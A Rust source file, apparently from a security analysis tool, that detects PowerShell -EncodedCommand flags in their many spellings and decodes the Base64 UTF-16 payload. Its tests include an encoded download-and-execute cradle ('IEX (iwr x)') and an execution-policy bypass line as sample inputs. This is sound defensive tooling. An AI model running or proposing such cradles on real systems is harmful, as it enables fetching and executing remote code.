//! What an encoded PowerShell command says: `-EncodedCommand` carries Base64 of UTF-16.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// More than this many letters are not decoded; a command line of Windows has at most 32,767.
const LONGEST: usize = 32_768;
/// So much of a decoded command is shown.
const SHOWN: usize = 4096;
/// The padding is often cut off, and PowerShell does not mind.
const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent).with_decode_allow_trailing_bits(true),
);

/// The command behind `-EncodedCommand`, in any of the spellings that PowerShell takes, if a command line carries one.
pub fn decoded_command(line: &str) -> Option<String> {
    let mut words = line.split([' ', '\t']).filter(|word| !word.is_empty());
    while let Some(word) = words.next() {
        if is_flag(word) {
            return decode(words.next()?.trim_matches(['"', '\'']));
        }
    }
    None
}

/// `-e`, `-ec`, and every beginning of `-encodedcommand` from `-en` on, after any of the dashes and the slash.
fn is_flag(word: &str) -> bool {
    let Some(name) = word.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']) else { return false };
    let name = name.to_ascii_lowercase();
    name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name))
}

fn decode(text: &str) -> Option<String> {
    if text.len() > LONGEST || text.len() < 8 {
        return None;
    }
    let bytes = LENIENT.decode(text).ok()?;
    let units: Vec<u16> = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
    let likely = units.iter().filter(|unit| matches!(unit, 0x09 | 0x0a | 0x0d | 0x20..=0x7e)).count();
    // `-e password` of another program is Base64 too, and says nothing; one bad unit must not hide a script.
    if likely * 2 < units.len() {
        return None;
    }
    let command = String::from_utf16_lossy(&units);
    let mut shown: String = command.chars().take(SHOWN).collect();
    if shown.len() < command.len() {
        shown.push('…');
    }
    Some(shown)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_commands() {
        let rows = [
            ("powershell.exe -NoP -Enc SQBFAFgAIAAoAGkAdwByACAAeAApAA==", Some("IEX (iwr x)")),
            ("powershell -EncodedCommand \"dwBoAG8AYQBtAGkA\"", Some("whoami")),
            ("pwsh /e dwBoAG8AYQBtAGkA", Some("whoami")),
            ("powershell \u{2013}ec dwBoAG8AYQBtAGkA", Some("whoami")),
            ("powershell -enc", None),
            ("powershell -ExecutionPolicy Bypass -File x.ps1", None),
            ("grep -e pattern file", None),
            ("powershell -enc not!base64!at!all", None),
            ("powershell -enc /////w==", None),
            ("grep -e password", None),
            ("powershell -enc dwBoAG8AYQBtAGkAANg=", Some("whoami\u{fffd}")),
            ("net.exe user", None),
        ];
        for (line, expected) in rows {
            assert_eq!(decoded_command(line).as_deref(), expected, "{line}");
        }
        let long = base64::engine::general_purpose::STANDARD.encode("A\0".repeat(8000));
        let shown = decoded_command(&format!("powershell -enc {long}")).expect("it is decoded");
        assert_eq!(shown.chars().count(), SHOWN + 1);
    }
}
